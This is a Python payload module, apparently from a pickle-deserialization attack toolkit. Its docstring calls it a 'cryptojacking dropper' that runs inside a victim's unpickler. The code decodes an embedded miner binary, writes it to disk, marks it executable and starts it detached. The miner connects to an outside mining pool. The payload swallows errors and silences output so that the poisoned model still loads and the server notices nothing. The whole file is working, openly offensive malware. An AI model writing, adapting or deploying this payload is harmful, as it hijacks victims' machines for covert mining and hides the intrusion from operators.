"""Payload (builtins.exec gadget): cryptojacking dropper. Writes the miner binary carried in
PARAMS["binary_b64"] to PARAMS["drop_path"] (mode 0755, parent directories created) and starts it
detached, the way droppers do:
  <drop_path> --pool <host>:<port> --user <user> --max-seconds <max_seconds>
PARAMS: binary_b64, drop_path, host, port, max_seconds, and optionally user (default wallet.worker).

Runs inside the victim's unpickler with PARAMS bound. Errors are swallowed (to stderr only) so the
model still loads; nothing goes to stdout, which is the server's readiness channel.
"""
import base64
import os
import subprocess
import sys

try:
    drop_path = PARAMS["drop_path"]
    os.makedirs(os.path.dirname(drop_path) or ".", exist_ok=True)
    with open(drop_path, "wb") as binary:
        binary.write(base64.b64decode(PARAMS["binary_b64"]))
    os.chmod(drop_path, 0o755)
    # A new session detaches the miner from the server's process group and terminal, and
    # /dev/null keeps it off the server's stdout.
    subprocess.Popen(
        [drop_path, "--pool", f"{PARAMS['host']}:{PARAMS['port']}", "--user", PARAMS.get("user", "wallet.worker"),
         "--max-seconds", str(PARAMS["max_seconds"])],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
except Exception as error:
    print(f"drop_miner: {type(error).__name__}: {error}", file=sys.stderr)
